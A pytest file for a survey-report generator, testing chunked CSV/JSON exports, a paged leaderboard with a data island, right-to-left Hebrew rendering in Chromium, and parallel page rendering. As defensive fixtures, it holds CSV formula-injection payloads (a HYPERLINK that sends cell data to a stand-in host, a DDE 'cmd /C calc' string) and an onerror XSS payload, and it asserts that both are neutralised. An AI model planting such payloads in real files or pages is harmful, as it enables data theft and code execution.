"""Reports at research scale, proven on small surveys (issue 15 item 4).

- The exports are written a chunk at a time now; the files are the bytes the one-shot
  writers (kept below as the reference, as they were) produce from the same results.
- A leaderboard longer than one page keeps its first page as HTML and every row in a data
  island: in a real Chromium every company is reachable through the pager and the search,
  sorting covers every row, in English and in Hebrew (right to left); without scripts,
  the shared company pages link to each other and hold every company.
"""

from __future__ import annotations

import csv
import json
from datetime import datetime, timedelta
from pathlib import Path
from typing import Any
from urllib.parse import unquote
from zoneinfo import ZoneInfo

import pytest
from bs4 import BeautifulSoup

from audit.models import Company
from reports.build import prepare
from reports.exports import export_table
from reports.render import build_report
from reports.safety import sheet_safe

from .conftest import SurveyBuilder
from .test_example12 import NOW, fill_survey12

IL = ZoneInfo("Asia/Jerusalem")
FORMULAS = ['=HYPERLINK("http://x.test/?d="&A1,"details")', "+1+cmd|' /C calc'!A0", "-2+3"]
CHROMIUM = "/usr/lib/chromium/chromium"


# -- the one-shot writers as they were before the exports were chunked -------------------
def _csv_text(value: Any) -> str:
    if value is None:
        return ""
    if value is True or value is False:
        return "true" if value else "false"
    return str(value)


def _one_shot_csv(table: tuple[list[str], list[list[Any]]], path: Path) -> None:
    cols, rows = table
    with path.open("w", newline="", encoding="utf-8") as fh:
        w = csv.writer(fh)
        w.writerow(cols)
        w.writerows([_csv_text(sheet_safe(v)) for v in row] for row in rows)


def _one_shot_json_results(table: tuple[list[str], list[list[Any]]], doc: dict) -> str:
    doc = {**doc, "results": [dict(zip(table[0], row, strict=True)) for row in table[1]]}
    return json.dumps(doc, ensure_ascii=False, indent=1, allow_nan=False)


def fill_golden(b: SurveyBuilder) -> None:
    """test_example12's survey, plus companies whose names a spreadsheet would run."""
    fill_survey12(b)
    w = b.wave("wave-1")
    for i, bad in enumerate([*FORMULAS, "\u202eevil\u202c"]):
        cid = b.company(bad, sector=bad, id=f"formula-{i}", promise=bad, unchecked=True)
        sid = b.submit(cid, w, datetime(2026, 9, 17, 10, 0, tzinfo=IL))
        b.reply(sid, datetime(2026, 9, 17, 11, 0, tzinfo=IL) + timedelta(minutes=i), text=bad)


@pytest.mark.parametrize("chunk_rows", [5_000, 4, 1])
def test_chunked_exports_are_the_bytes_of_the_one_shot_writers(
    builder: SurveyBuilder, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, chunk_rows: int
) -> None:
    fill_golden(builder)
    monkeypatch.setattr("reports.exports.CHUNK_ROWS", chunk_rows)
    paths = build_report(
        builder.store, builder.workspace(), out_dir=tmp_path / "r", now=NOW, wave="wave-1"
    )
    data = prepare(builder.store, builder.workspace(), now=NOW, wave="wave-1")
    table = export_table(data.results)
    assert len(table[1]) == 16
    _one_shot_csv(table, tmp_path / "one-shot.csv")
    assert paths.results_csv.read_bytes() == (tmp_path / "one-shot.csv").read_bytes()
    written = paths.results_json.read_text("utf-8")
    head = {k: v for k, v in json.loads(written).items() if k != "results"}
    assert written == _one_shot_json_results(table, head)
    assert "'=HYPERLINK" in paths.results_csv.read_text("utf-8")


# -- a leaderboard longer than one page -----------------------------------------------------
N_ANSWERED, N_BLOCKED, PAGE = 23, 6, 5
START = datetime(2026, 11, 18, 9, 0, tzinfo=IL)
NOW_BIG = datetime(2026, 12, 10, 12, 0, tzinfo=IL)


def _big(b: SurveyBuilder, lang_names: bool = False) -> list[str]:
    w = b.wave("wave-1", close_at=datetime(2026, 12, 2, 18, 0, tzinfo=IL))
    names = []
    for i in range(N_ANSWERED):
        name = f"חברה {i:02d}" if i % 3 == 0 else f"Company {i:02d}"
        if i == 22:  # not on the first page: only the script's rows show it
            name = f'<img src=x onerror="window.__pwned=1"></script> {i}'
        names.append(name)
        sid = b.submit(
            b.company(name, sector=("banks", "telecom")[i % 2], id=f"c{i:02d}"), w, START
        )
        if i % 4:
            b.reply(sid, START + timedelta(minutes=10 * (i + 1)))
    for i in range(N_BLOCKED):
        name = f"Blocked {i}"
        names.append(name)
        cid = b.company(name, sector="telecom", id=f"blocked-{i}")
        b.submit(cid, w, None, state="blocked", reason="captcha", outcome="captcha")
    return names


def soup(path: Path) -> BeautifulSoup:
    return BeautifulSoup(path.read_text("utf-8"), "lxml")


def test_shared_company_pages_hold_every_company_without_scripts(builder, tmp_path):
    names = _big(builder)
    paths = build_report(
        builder.store, builder.workspace(), out_dir=tmp_path / "r", now=NOW_BIG,
        page_rows=PAGE, group_size=4,
    )  # fmt: skip
    doc = soup(paths.index_html)
    assert len(doc.select("#leaderboard tbody tr")) == PAGE
    assert len(doc.select("#not-reachable-table tbody tr")) == PAGE
    island = json.loads(doc.select_one("#report-data").get_text())
    assert len(island["rows"]) == N_ANSWERED and len(island["unreachable"]) == N_BLOCKED
    assert "Rows 1–5 of 23" in doc.select_one("#leaderboard-pager").get_text()
    # without scripts: from the leaderboard to the first shared page, then next, next...
    seen: list[str] = []
    page: Path | None = paths.dir / unquote(doc.select_one("#leaderboard-pager a")["href"])
    while page is not None:
        cp = soup(page)
        assert cp.html["dir"] == "ltr" and not cp.find_all("script")
        seen += [h.get_text() for h in cp.select("section.company h2.company")]
        nxt = cp.select_one("a[rel=next]")
        page = page.parent / nxt["href"] if nxt else None
    assert sorted(seen) == sorted(names)
    assert len(list((paths.dir / "companies").glob("*.html"))) == -(-len(names) // 4)
    # every leaderboard link (HTML rows and island rows) lands on its company's section
    hrefs = [a["href"] for a in doc.select("a.company")] + [r[2] for r in island["rows"]]
    for href in hrefs:
        file, _, anchor = unquote(href).partition("#")
        assert soup(paths.dir / file).find(id=anchor) is not None, href


@pytest.fixture(scope="module")
def browser():
    sync_api = pytest.importorskip("playwright.sync_api")
    if not Path(CHROMIUM).exists():
        pytest.skip("no system Chromium at " + CHROMIUM)
    with sync_api.sync_playwright() as p:
        b = p.chromium.launch(executable_path=CHROMIUM)
        yield b
        b.close()


@pytest.mark.browser
@pytest.mark.parametrize("lang", ["en", "he"])
def test_every_company_is_reachable_in_chromium(builder, browser, tmp_path, lang):
    names = _big(builder)
    paths = build_report(
        builder.store, builder.workspace(), out_dir=tmp_path / lang, now=NOW_BIG, lang=lang,
        page_rows=PAGE,
    )  # fmt: skip
    page = browser.new_page(viewport={"width": 1200, "height": 900}, locale=lang)
    errors: list[str] = []
    page.on("pageerror", lambda e: errors.append(str(e)))
    page.goto(paths.index_html.as_uri())
    page.wait_for_load_state("load")
    assert page.evaluate("document.documentElement.dir") == ("rtl" if lang == "he" else "ltr")
    rows = page.locator("#leaderboard tbody tr")

    def names_on_page(table: str) -> list[str]:
        return page.locator(f"#{table} tbody a.company").all_inner_texts()

    # page through the leaderboard with the script's pager: every ranked company, in order
    listed, ranks = [], []
    for _ in range(20):
        listed += names_on_page("leaderboard")
        ranks += [
            int(r) for r in page.locator("#leaderboard tbody tr td:first-child").all_inner_texts()
        ]
        nxt = page.locator("#leaderboard-pager button.next")
        if nxt.is_disabled():
            break
        nxt.click()
    unreachable = names_on_page("not-reachable-table")
    page.locator("#not-reachable-pager button.next").click()
    unreachable += names_on_page("not-reachable-table")
    assert len(listed) == N_ANSWERED and ranks == sorted(ranks)
    assert sorted(listed + unreachable) == sorted(names)
    # in RTL the rank column is at the right edge of the table
    first = page.locator("#leaderboard thead th").first.bounding_box()
    second = page.locator("#leaderboard thead th").nth(1).bounding_box()
    assert (first["x"] > second["x"]) == (lang == "he")
    # the search reaches a company that is not on the first page
    last = listed[-1]
    page.fill("#search", last)
    assert names_on_page("leaderboard") == [last]
    page.fill("#search", "")
    # sorting covers every row, not only the page shown: rank descending starts at the end
    page.click("#leaderboard thead th:nth-child(1)")  # rank descending
    assert rows.first.locator("td").first.inner_text() == str(max(ranks))
    page.select_option("#sector-filter", "banks")
    assert page.locator("#leaderboard-pager .rows").inner_text().endswith(str(sum(
        1 for i in range(N_ANSWERED) if i % 2 == 0
    )))  # fmt: skip
    # a link from a row built by the script opens its company's section
    href = rows.first.locator("a.company").get_attribute("href")
    assert href.startswith("companies/") and "#" in href
    page.goto(paths.index_html.parent.joinpath(unquote(href).split("#")[0]).as_uri())
    assert page.evaluate("document.documentElement.dir") == ("rtl" if lang == "he" else "ltr")
    assert errors == [] and page.evaluate("window.__pwned === undefined")
    page.close()


def test_a_small_survey_keeps_one_page_per_company(builder, tmp_path):
    b = builder
    w = b.wave("wave-1")
    for i in range(3):
        b.submit(b.company(f"Company {i}", id=f"c{i}"), w, START)
    paths = build_report(b.store, b.workspace(), out_dir=tmp_path / "r", now=NOW_BIG)
    doc = soup(paths.index_html)
    assert doc.select_one("#report-data") is None and len(doc.find_all("script")) == 1
    assert sorted(p.name for p in (paths.dir / "companies").iterdir()) == [
        "c0.html", "c1.html", "c2.html",
    ]  # fmt: skip
    assert isinstance(b.companies[0], Company)


def test_pages_rendered_by_two_processes_are_the_pages_rendered_by_one(
    builder, tmp_path, monkeypatch
):
    """At research scale a forked copy renders half of the shared company pages."""
    _big(builder)
    files = {}
    for name, threshold in (("one", 10**9), ("two", 0)):
        monkeypatch.setattr("reports.views.PARALLEL_MIN_COMPANIES", threshold)
        paths = build_report(
            builder.store, builder.workspace(), out_dir=tmp_path / name, now=NOW_BIG,
            page_rows=PAGE, group_size=4,
        )  # fmt: skip
        files[name] = {
            str(p.relative_to(paths.dir)): p.read_bytes() for p in sorted(paths.dir.rglob("*.html"))
        }
    assert len(files["one"]) == 2 + 8
    assert files["two"] == files["one"]


@pytest.mark.browser
def test_the_channel_filter_works_on_the_data_island_in_chromium(builder, browser, tmp_path):
    """At research scale the rows live in the data island: the channel column and filter
    (a survey that used e-mail) are rendered by the script, page by page."""
    b = builder
    w = b.wave("wave-1", close_at=datetime(2026, 12, 2, 18, 0, tzinfo=IL))
    for i in range(8):
        cid = b.company(f"Company {i}", sector="banks", id=f"c{i}")
        sid = b.submit(cid, w, START, channel="email" if i % 2 else "form")
        b.reply(sid, START + timedelta(minutes=10 * (i + 1)))
    blocked = b.company("Blocked", sector="telecom", id="blocked")
    b.submit(blocked, w, None, state="blocked", reason="captcha", outcome="captcha")
    paths = build_report(b.store, b.workspace(), out_dir=tmp_path / "r", now=NOW_BIG, page_rows=3)
    page = browser.new_page(viewport={"width": 1200, "height": 900})
    errors: list[str] = []
    page.on("pageerror", lambda e: errors.append(str(e)))
    page.goto(paths.index_html.as_uri())
    page.wait_for_load_state("load")
    heads = page.locator("#leaderboard thead th").all_inner_texts()
    col = heads.index("Channel")

    def shown() -> list[tuple[str, str]]:
        out = []
        for tr in page.locator("#leaderboard tbody tr").all():
            cells = tr.locator("td").all_inner_texts()
            out.append((cells[1], cells[col]))
        return out

    assert shown() == [
        ("Company 0", "web form"),
        ("Company 1", "e-mail"),
        ("Company 2", "web form"),
    ]
    page.select_option("#channel-filter", "email")
    assert shown() == [("Company 1", "e-mail"), ("Company 3", "e-mail"), ("Company 5", "e-mail")]
    page.click("#leaderboard-pager button.next")
    assert shown() == [("Company 7", "e-mail")]
    page.select_option("#channel-filter", "form")
    assert [c for _, c in shown()] == ["web form"] * 3
    assert page.locator("#not-reachable-table tbody tr").count() == 1
    page.select_option("#channel-filter", "email")
    assert page.locator("#not-reachable-table tbody tr:not([hidden])").count() == 0
    assert errors == []
    page.close()
